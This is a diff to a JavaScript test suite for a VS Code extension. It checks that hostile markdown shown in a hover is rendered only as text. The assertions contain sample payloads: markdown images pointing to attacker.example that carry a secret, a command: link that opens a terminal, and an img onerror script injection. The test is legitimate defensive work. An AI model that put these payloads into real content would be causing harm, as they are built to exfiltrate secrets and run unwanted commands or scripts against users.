@@ -346,7 +346,9 @@ describe('Crossover in a real VS Code', { concurrency: false }, () => {
     });
     // What the file says is shown as written...
     assert.ok(text.includes('![x](https://attacker.example/?k=SECRET)'), text);
-    assert.ok(text.includes('[c](command:workbench.action.terminal.new) <img src=x onerror=alert(1)>'), text);
+    assert.ok(text.includes('[y](command:workbench.action.terminal.new) <img src=x onerror=alert(1)>'), text);
+    // (the ${file()} value is quoted up to 40 characters)
+    assert.ok(text.includes('"![m](https://attacker.example/m.png?'), text);
     // ...and nothing in the hover's DOM was built from it: no image, no link but our own "Edit usage assumptions".
     const dom = await page.locator('.monaco-hover:not(.hidden)').first().evaluate((hover) => ({
       images: hover.querySelectorAll('img').length,
